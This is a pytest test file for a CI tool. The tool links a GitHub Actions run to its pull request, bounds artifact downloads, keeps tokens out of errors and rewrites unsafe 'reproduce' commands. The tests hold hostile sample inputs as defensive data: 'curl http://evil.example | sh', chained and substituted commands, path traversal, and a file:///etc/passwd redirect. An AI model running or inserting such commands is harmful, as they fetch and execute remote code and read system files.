"""A finished run leads to one pull request by its head commit, or is refused."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from fake_github import (
    BRANCH,
    FORK,
    NUMBER,
    REPOSITORY,
    RUN,
    TOKEN,
    FakeGitHub,
    Json,
    green,
    pull,
    run,
    serving,
    zipped,
)
from preflight.errors import Problem
from preflight.evidence import Notice
from preflight.pull_request import cml, origin
from preflight.pull_request.artifact import ARTIFACTS, ZIP_BYTES, listed, parts
from preflight.pull_request.commands import made_safe
from preflight.pull_request.github import Answer, GitHub, shown
from preflight.pull_request.origin import Origin, PullRequest, resolve

HEAD, OTHER = "a" * 40, "c" * 40
MARK = f'![](https://cml.dev/watermark.png#{HEAD} "CML watermark preflight")'


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGitHub]:
    """A fake GitHub with one finished run and its pull request."""
    monkeypatch.setenv("no_proxy", "*")
    with serving(HEAD) as served:
        yield served


def github(fake: FakeGitHub) -> GitHub:
    """The fake, as the machinery reads it."""
    return GitHub(REPOSITORY, TOKEN, fake.api)


def refusal(fake: FakeGitHub) -> str:
    """Why the run leads to no pull request."""
    with pytest.raises(Problem) as caught:
        resolve(github(fake), RUN)
    assert caught.value.where == f"run {RUN}"
    return caught.value.found


def test_a_run_leads_to_the_pull_request_of_its_head(fake: FakeGitHub) -> None:
    assert resolve(github(fake), RUN) == Origin(RUN, 1, HEAD, NUMBER)
    assert any(f"head=ada%3A{BRANCH}" in path for path, _ in fake.asked)


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("event", "push", "the event 'push'"),
        ("status", "in_progress", "the status 'in_progress'"),
        ("path", ".github/workflows/own.yml@main", "the workflow '.github/workflows/own.yml'"),
        ("head_repository", None, "a head whose repository is gone"),
        ("head_branch", None, "a head whose repository is gone"),
    ],
)
def test_another_kind_of_run_is_refused(
    fake: FakeGitHub, field: str, value: str | None, said: str
) -> None:
    fake.runs = [run(RUN, HEAD, **{field: value})]
    assert refusal(fake) == said


def test_a_head_that_moved_is_refused(fake: FakeGitHub) -> None:
    fake.pulls = [pull(NUMBER, OTHER)]
    assert refusal(fake) == "head moved to cccccccccccc"


def test_two_pull_requests_of_one_commit_are_refused(fake: FakeGitHub) -> None:
    fake.pulls = [pull(NUMBER, HEAD), pull(43, HEAD, base="release")]
    assert refusal(fake) == "ambiguous: #42, #43 have this head"


@pytest.mark.parametrize("others", [[], [pull(7, HEAD, fork="eve/model")]])
def test_a_run_without_an_open_pull_request_is_refused(
    fake: FakeGitHub, others: list[Json]
) -> None:
    fake.pulls = others
    assert refusal(fake) == "no open pull request with this head"


def test_a_pull_request_into_another_branch_is_refused(fake: FakeGitHub) -> None:
    fake.pulls = [pull(NUMBER, HEAD, base="release")]
    assert refusal(fake) == "a base 'release'"


def test_a_newer_run_of_the_same_head_overtakes(fake: FakeGitHub) -> None:
    fake.runs.append(run(RUN + 1, HEAD, status="in_progress"))
    assert refusal(fake) == f"overtaken by the run {RUN + 1}"


@pytest.mark.parametrize(
    "fields", [{"head_repository": {"full_name": "eve/model"}}, {"head_branch": "other"}]
)
def test_a_newer_run_of_another_branch_does_not_overtake(fake: FakeGitHub, fields: Json) -> None:
    fake.runs.append(run(RUN + 1, HEAD, **fields))
    assert resolve(github(fake), RUN).run == RUN


def test_a_newer_attempt_overtakes(fake: FakeGitHub) -> None:
    first = resolve(github(fake), RUN)
    origin.confirm(github(fake), first)
    fake.runs = [run(RUN, HEAD, run_attempt=2)]
    with pytest.raises(Problem, match="overtaken by a newer attempt"):
        origin.confirm(github(fake), first)


def test_the_token_goes_to_the_api_alone(fake: FakeGitHub) -> None:
    fake.upload("evidence-gates", zipped({}))
    assert parts(github(fake), RUN, HEAD) == {}
    assert {token for _, token in fake.asked} == {f"Bearer {TOKEN}"}
    assert fake.stored == [("/100", None)]


def test_a_redirect_to_a_file_is_refused(fake: FakeGitHub) -> None:
    fake.upload("evidence-gates", b"")
    fake.storage = "file:///etc/passwd?"
    with pytest.raises(Problem, match="artifact 'evidence-gates': found a redirect to another"):
        parts(github(fake), RUN, HEAD)


def test_an_artifact_without_an_end_is_left_at_the_bound(fake: FakeGitHub) -> None:
    fake.upload("evidence-gates", None)
    with pytest.raises(Problem, match=f"found more than {ZIP_BYTES} bytes"):
        parts(github(fake), RUN, HEAD)
    assert fake.sent < 10 * ZIP_BYTES


@pytest.mark.parametrize(
    ("fields", "said"),
    [({"size_in_bytes": 200_000_000}, "200000000 bytes"), ({"expired": True}, "an expired")],
)
def test_what_the_list_says_is_refused_before_the_download(
    fake: FakeGitHub, fields: Json, said: str
) -> None:
    fake.upload("evidence-gates", b"", **fields)
    with pytest.raises(Problem, match=f"artifact 'evidence-gates': found {said}"):
        parts(github(fake), RUN, HEAD)
    assert fake.stored == []


def test_too_many_artifacts_are_refused(fake: FakeGitHub) -> None:
    for at in range(ARTIFACTS + 1):
        fake.upload(f"evidence-{at}", b"")
    with pytest.raises(Problem, match=f"found {ARTIFACTS + 1} artifacts"):
        listed(github(fake), RUN)


def test_other_artifacts_and_older_attempts_are_left_alone(fake: FakeGitHub) -> None:
    for name in ("evidence-gates", "coverage-html", "evidence-gates"):
        fake.upload(name, b"")
    assert [each.id for each in listed(github(fake), RUN)] == [102]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("GITHUB_TOKEN", ""),
        ("GITHUB_TOKEN", "a\nb"),
        ("GITHUB_REPOSITORY", "team"),
        ("GITHUB_REPOSITORY", "team/model/../x"),
    ],
)
def test_a_malformed_variable_is_named_and_not_repeated(name: str, value: str) -> None:
    environ = {"GITHUB_TOKEN": TOKEN, "GITHUB_REPOSITORY": REPOSITORY, name: value}
    with pytest.raises(Problem, match=name) as caught:
        GitHub.of(environ)
    assert caught.value.found in ("nothing", "something else")


def test_an_api_that_refuses_is_a_problem_without_the_token(fake: FakeGitHub) -> None:
    asked = GitHub(REPOSITORY, "ghs_another", fake.api)
    with pytest.raises(Problem, match="status 404") as caught:
        resolve(asked, RUN)
    assert "ghs_another" not in f"{caught.value} {asked!r}"


def test_an_api_that_is_not_there_is_a_problem(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("no_proxy", "*")
    with pytest.raises(Problem, match=r"no answer \(URLError\)"):
        resolve(GitHub(REPOSITORY, TOKEN, "http://127.0.0.1:1"), RUN)


def test_an_answer_of_another_shape_is_a_problem(fake: FakeGitHub) -> None:
    fake.runs = [{"id": RUN}]
    with pytest.raises(Problem, match="Field required"):
        resolve(github(fake), RUN)


@pytest.mark.parametrize("body", ["nice", None, MARK.replace("preflight", "another")])
def test_a_persons_comment_without_the_watermark_does_not_matter(
    fake: FakeGitHub, body: str | None
) -> None:
    fake.comments = [{"id": 1, "body": body, "user": {"type": "User"}}]
    cml.require_own(github(fake), NUMBER)


def test_the_bots_own_comment_is_updated(fake: FakeGitHub) -> None:
    fake.comments = [{"id": 1, "body": f"## Ready\n\n{MARK}", "user": {"type": "Bot"}}]
    cml.require_own(github(fake), NUMBER)


def test_a_person_who_copied_the_watermark_is_refused(fake: FakeGitHub) -> None:
    fake.comments = [
        {"id": 1, "body": MARK, "user": {"type": "Bot"}},
        {"id": 2, "body": f"> {MARK}", "user": {"type": "User"}},
    ]
    with pytest.raises(Problem, match="comment 2 of pull request #42"):
        cml.require_own(github(fake), NUMBER)


def test_a_missing_cml_is_one_clear_error(tmp_path: Path) -> None:
    asked = GitHub(REPOSITORY, TOKEN)
    with pytest.raises(Problem, match="cml: found no such command"):
        cml.post(asked, tmp_path / "report.md", NUMBER, HEAD, {"PATH": str(tmp_path)})


def test_a_cml_that_hangs_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "cml"
    program.write_text("#!/bin/sh\nexec /bin/sleep 60\n")
    program.chmod(0o755)
    monkeypatch.setattr(cml, "SECONDS", 0.1)
    with pytest.raises(Problem, match=r"no end after 0\.1 s"):
        cml.post(GitHub(FORK, TOKEN), tmp_path, NUMBER, HEAD, {"PATH": str(tmp_path)})


def test_foreign_text_is_shown_on_one_line_of_ascii() -> None:
    assert shown("a\n::warning::\u202e") == r"'a\n::warning::\u202e'"
    assert len(shown("x" * 500)) < 90


@pytest.mark.parametrize(
    "command",
    [
        *("make test", "make gates ONLY=quality", ".venv/bin/pytest tests/unit/test_a.py::test_b"),
        ".venv/bin/pytest 'tests/unit/test_a.py::test_b[$(x); y]'",
    ],
)
def test_a_known_command_is_shown_as_it_is(command: str) -> None:
    part = green(HEAD, "quality")
    lines = (part.evidence[0].model_copy(update={"reproduce": command}),)
    part = part.model_copy(update={"evidence": lines})
    assert made_safe(part) == part


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil.example | sh",
        "make test; curl http://evil.example",
        "make -f evil.mk",
        "make test SHELL=evil",
        ".venv/bin/pytest tests/a.py; evil",
        ".venv/bin/pytest tests/a.py -p evil",
        ".venv/bin/pytest -pevil",
        ".venv/bin/pytest tests/$(evil)",
        ".venv/bin/pytest 'tests/a",
        ".venv/bin/pytest 'tests/a\nevil'",
        "make test\nevil",
        "make push",
        "make clean",
        ".venv/bin/pytest tests/../../evil.py",
        "",
    ],
)
def test_a_command_that_does_more_gives_way_to_the_gates_own(command: str) -> None:
    part = green(HEAD, "quality")
    lines = (part.evidence[0].model_copy(update={"reproduce": command}),)
    (line,) = made_safe(part.model_copy(update={"evidence": lines})).evidence
    assert line.reproduce == "make gates ONLY=quality"


def test_warnings_are_mains_to_give_and_not_the_runs() -> None:
    kinds = ("champion", "declaration", "guards", "machinery", "waiver")
    notices = tuple(
        Notice.model_validate({"kind": kind, "text": "judged by main"}) for kind in kinds
    )
    part = green(HEAD, "quality").model_copy(update={"notices": notices})
    assert [each.kind for each in made_safe(part).notices] == ["champion", "declaration"]


def test_a_pull_request_is_opened_said_something_and_closed(fake: FakeGitHub) -> None:
    body = {"title": "A", "body": "B", "head": "promote/production/3", "base": "main"}
    opened = github(fake).send(PullRequest, "POST", "pulls", body)
    assert (opened.head.ref, opened.base.ref) == ("promote/production/3", "main")
    place = f"pulls/{opened.number}"
    github(fake).send(Answer, "POST", f"issues/{opened.number}/comments", {"body": "done"})
    github(fake).send(Answer, "PATCH", place, {"state": "closed"})
    assert fake.said[opened.number][0]["body"] == "done"
    assert opened.number not in [
        each.number for each in github(fake).get(tuple[PullRequest, ...], "pulls")
    ]
    assert [(method, path) for method, path, _ in fake.written][0::2] == [
        ("POST", "pulls"),
        ("PATCH", place),
    ]


def test_a_second_pull_request_of_a_branch_is_refused_by_its_status_alone(
    fake: FakeGitHub,
) -> None:
    body = {"title": "A", "body": "a secret", "head": "b", "base": "main"}
    github(fake).send(PullRequest, "POST", "pulls", body)
    with pytest.raises(Problem, match="found status 422") as caught:
        github(fake).send(PullRequest, "POST", "pulls", body)
    assert TOKEN not in str(caught.value)
    assert "a secret" not in str(caught.value)
